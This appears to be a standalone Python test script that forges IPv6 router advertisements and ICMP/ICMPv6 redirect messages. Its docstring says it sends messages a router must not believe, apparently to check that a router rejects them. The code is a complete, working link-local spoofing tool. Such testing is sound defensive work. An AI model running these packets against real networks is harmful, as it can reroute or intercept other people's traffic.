"""Sends messages that a router must not believe.

    rogue_neighbour.py advertise DEVICE SOURCE SITE
    rogue_neighbour.py redirect DEVICE SOURCE SITE DESTINATION

`advertise` sends a router advertisement with a prefix for addresses (RFC 4861, 4.2). `redirect`
tells SITE to send packets for DESTINATION to SOURCE (RFC 792; RFC 4861, 4.5). This file runs as a
program of its own, so it imports nothing of this project.
"""

import socket
import struct
import sys
from ipaddress import IPv6Address, ip_address
from pathlib import Path

HOPS = 255
"""Hop limit of neighbour discovery, which shows that the sender is on the link."""

ADVERTISEMENT, REDIRECT6, REDIRECT4 = 134, 137, 5
HOUR = 3600


def advertise(device: str, source: str, _: str) -> None:
    head = struct.pack("!BBHBBHII", ADVERTISEMENT, 0, 0, 64, 0, HOUR, 0, 0)
    prefix = IPv6Address(source).packed[:8] + bytes(8)
    option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, HOUR, HOUR, 0) + prefix
    _send6(device, "ff02::1", head + option)


def redirect(device: str, source: str, site: str, destination: str) -> None:
    there = ip_address(destination).packed
    if ":" in site:
        target = _link_local(device).packed
        _send6(device, site, struct.pack("!BBHI", REDIRECT6, 0, 0, 0) + target + there)
        return
    ours = ip_address(site).packed
    inner = struct.pack("!BBHHHBBH", 0x45, 0, 28, 0, 0, 64, socket.IPPROTO_UDP, 0) + ours + there
    inner = inner[:10] + _checksum(inner) + inner[12:]
    message = struct.pack("!BBH", REDIRECT4, 1, 0) + ip_address(source).packed + inner + bytes(8)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.bind((source, 0))
        sock.sendto(message[:2] + _checksum(message) + message[4:], (site, 0))


def _send6(device: str, to: str, message: bytes) -> None:
    """Send from the device's link-local address. The kernel fills in the checksum (RFC 3542,
    3.1)."""
    scope = socket.if_nametoindex(device)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        for option in (socket.IPV6_MULTICAST_HOPS, socket.IPV6_UNICAST_HOPS):
            sock.setsockopt(socket.IPPROTO_IPV6, option, HOPS)
        sock.bind((str(_link_local(device)), 0, 0, scope))
        sock.sendto(message, (to, 0, 0, scope))


def _link_local(device: str) -> IPv6Address:
    """Return the link-local address of `device`, from proc_net(5)."""
    lines = (line.split() for line in Path("/proc/net/if_inet6").read_text().splitlines())
    found = (IPv6Address(int(one[0], 16)) for one in lines if one[5] == device)
    return next(one for one in found if one.is_link_local)


def _checksum(data: bytes) -> bytes:
    """Return the Internet checksum (RFC 1071) of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", 0xFFFF - total)


if __name__ == "__main__":
    if sys.argv[1] == "advertise":
        advertise(*sys.argv[2:])
    else:
        redirect(*sys.argv[2:])
